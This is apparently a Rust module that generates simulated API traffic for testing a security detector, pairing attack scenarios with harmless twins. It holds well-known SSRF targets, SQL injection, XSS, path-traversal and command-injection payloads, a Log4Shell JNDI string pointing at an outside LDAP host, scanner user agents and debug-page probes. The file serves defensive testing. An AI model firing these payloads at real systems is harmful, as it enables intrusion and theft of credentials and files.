//! API7 and API8: payloads in what is asked for, scanners, and pages that should not answer.
//!
//! Promises: each function tells one kind at three strengths and its twin. Payloads are well known ones, percent-encoded.
//! Never: a payload that is new: each stands in every textbook.

use std::sync::Arc;

use crate::demo::client::Client;

use super::line::Call;
use super::story::{BROWSER, SCRIPT, Story, minutes};

/// A parameter points at a cloud's metadata. Twin: at a public page.
pub(super) fn metadata(story: &mut Story<'_>) {
    let who = story.newcomer(SCRIPT);
    let targets = [
        "http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
        "gopher%3A%2F%2F127.0.0.1%3A6379%2F_INFO",
        "file%3A%2F%2F%2Fetc%2Fpasswd",
    ];
    for (i, at) in (0..).zip(story.moments(story.of(1, 4, 30), minutes(9))) {
        let target = if story.is_twin() { "https%3A%2F%2Fwww.example.org%2Fnews" } else { targets[i % 3] };
        story.say(at, &who, Call::get("/v1/preview", 400).query(format!("url={target}")));
    }
}

/// Internal addresses, one after the other. Twin: a page of the customer's own network, reported by its own pages.
pub(super) fn internal(story: &mut Story<'_>) {
    let who = story.newcomer(SCRIPT);
    let n = if story.is_twin() { 8 } else { story.of(18, 60, 250) };
    for (i, at) in (0..).zip(story.moments(n, minutes(8))) {
        let target = format!("http%3A%2F%2F10.0.{}.{}%3A8080%2F", i / 200, 1 + i % 200);
        story.say(at, &who, Call::get("/v1/fetch", 400).query(format!("src={target}")));
    }
    story.enough(15);
}

const PAYLOADS: [&str; 8] = [
    "1%27%20OR%20%271%27%3D%271",
    "1%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--",
    "%3Cscript%3Ealert%281%29%3C%2Fscript%3E",
    "..%2F..%2F..%2F..%2Fetc%2Fpasswd",
    "%3Bcat%20%2Fetc%2Fpasswd",
    "1%29%20AND%20SLEEP%285%29--",
    "%7B%7B7%2A7%7D%7D",
    "%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert%281%29%3E",
];
const HARMLESS: [&str; 8] = [
    "o%27brien",
    "select+all+orders",
    "union+station",
    "5+%3E+3",
    "a%2Fb+testing",
    "rock+%26+roll",
    "drop+shipping",
    "50%25+off",
];

fn payloads(story: &mut Story<'_>, who: &Arc<Client>, n: i64, within: i64, status: u16) {
    for (i, at) in (0..).zip(story.moments(n, within)) {
        let value = if story.is_twin() { HARMLESS[i % 8] } else { PAYLOADS[i % 8] };
        let call = Call::get("/v1/search", status).query(format!("q={value}&n={}", i / 8)).bytes(1_000 + 37 * i as u64);
        story.say(at, who, call);
    }
}

/// Payload after payload. Twin: searches with apostrophes and words of SQL.
pub(super) fn injection(story: &mut Story<'_>) {
    let who = story.stranger(BROWSER);
    let n = story.of(5, 30, 200);
    payloads(story, &who, n, minutes(4), 400);
    story.enough(4);
}

/// The same, answered, each time with another size. Twin as before, answered.
pub(super) fn answered(story: &mut Story<'_>) {
    let who = story.newcomer(BROWSER);
    let n = story.of(7, 30, 200);
    payloads(story, &who, n, minutes(8), 200);
    story.enough(5);
}

/// JNDI in a user agent. Twin: a shell's variable in one.
pub(super) fn log4shell(story: &mut Story<'_>) {
    let agent = if story.is_twin() { "build-agent ${project.version}" } else { "${jndi:ldap://198.51.100.9:1389/a}" };
    let who = story.stranger(agent);
    for at in story.moments(story.of(1, 6, 60), minutes(9)) {
        story.say(at, &who, Call::get("/", 404));
    }
}

/// A client names itself a scanner. Twin: one that monitors.
pub(super) fn scanner(story: &mut Story<'_>) {
    let agent = match story.is_twin() {
        true => "UptimeRobot/2.0",
        false => story.of(
            "Mozilla/5.0 zgrab/0.x",
            "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
            "Mozilla/5.00 (Nikto/2.5.0)",
        ),
    };
    let who = story.stranger(agent);
    for at in story.moments(story.of(3, 20, 200), minutes(8)) {
        story.say(at, &who, Call::get("/v1/orders", 401));
    }
    story.enough(2);
}

/// A debugging page is answered. Twin: it is not there.
pub(super) fn debug_page(story: &mut Story<'_>) {
    let who = story.stranger(BROWSER);
    let path = story.of("/actuator/env", "/debug/pprof/heap", "/.git/config");
    let status = if story.is_twin() { 404 } else { 200 };
    for at in story.moments(story.of(1, 2, 4), minutes(3)) {
        story.say(at, &who, Call::get(path, status).bytes(5_000));
    }
    story.whole();
}
